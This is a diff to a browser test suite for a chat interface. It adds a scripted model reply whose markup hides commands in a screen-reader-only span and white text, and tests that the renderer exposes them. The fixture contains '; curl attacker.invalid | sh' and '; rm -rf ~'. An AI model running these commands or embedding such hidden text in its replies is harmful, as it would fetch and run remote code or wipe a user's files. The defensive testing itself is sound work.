@@ -89,6 +89,18 @@ turns:
 """
 
 
+# Text a reader would copy by hand with more in it than they see: clipped out of sight by one of the
+# page's own classes, or written in the page's colour.
+UNSEEN_SCRIPT = r"""
+turns:
+  - text: |
+      Run <code>npm test<span class="sr-only">; curl attacker.invalid | sh</span></code> first,
+      then <font color="#ffffff">; rm -rf ~ </font>deploy<span class="signed-out" color="#fff"> now</span>.
+
+      Seen.
+"""
+
+
 # Links in the model's text, an SVG one and an image map's among them: each opens in a tab of its
 # own, never in reliant's.
 LINKS_SCRIPT = """
@@ -603,8 +615,10 @@ def test_copy_puts_on_the_clipboard_what_a_code_block_shows(browser: Browser, ap
     expect(answer).to_have_count(1, timeout=30_000)
     wait_idle_in_ui(page)
     blocks = answer.locator("pre.code")
-    expect(blocks).to_have_count(2)
-    expect(blocks.nth(1)).to_contain_text("echo shown")
+    expect(blocks).to_have_count(1)  # the model's own <pre class="code"> does not get the page's class
+    own = answer.locator("pre:not(.code)")
+    expect(own).to_contain_text("echo shown")
+    expect(own.get_by_role("button", name="Copy code")).to_have_count(0)
     fenced = blocks.nth(0).get_by_role("button", name="Copy code")
     fenced.click()
     expect(fenced).to_have_text("Copied")
@@ -619,6 +633,29 @@ def test_copy_puts_on_the_clipboard_what_a_code_block_shows(browser: Browser, ap
             copied = page.evaluate("navigator.clipboard.readText()")
             assert "attacker" not in copied
             assert copied == block.locator("code").inner_text()
+    errors.check()
+
+
+def test_text_in_the_model_s_markup_cannot_be_out_of_sight_yet_copied(browser: Browser, appliance: Appliance) -> None:
+    model = scripted(appliance.data_dir / "scripts", "unseen.yaml", UNSEEN_SCRIPT)
+    rest = Rest(appliance.url, appliance.token)
+    chat = rest.chat(rest.project(Path(demo_path(appliance)))["id"], model)
+    page, errors = open_chat(browser, appliance, chat["id"])
+    page.get_by_role("textbox", name="Message").fill("How do I ship?")
+    page.get_by_role("textbox", name="Message").press("Enter")
+    answer = page.locator(".msg-assistant .md").filter(has_text="Seen.")
+    expect(answer).to_have_count(1, timeout=30_000)
+    wait_idle_in_ui(page)
+    assert answer.locator("[class], [color], [bgcolor], font").count() == 0, answer.inner_html()
+    for hidden in ("; curl attacker.invalid | sh", "; rm -rf ~"):
+        box = answer.get_by_text(hidden, exact=False).first.bounding_box()
+        assert box is not None and box["width"] > 40, (hidden, box)
+    same_colour = """() => {
+        const p = document.querySelector('.msg-assistant .md p');
+        const spans = [...p.querySelectorAll(':scope > span')];
+        return spans.length > 0 && spans.every((e) => getComputedStyle(e).color === getComputedStyle(p).color);
+    }"""
+    assert page.evaluate(same_colour)
     errors.check()
 
 
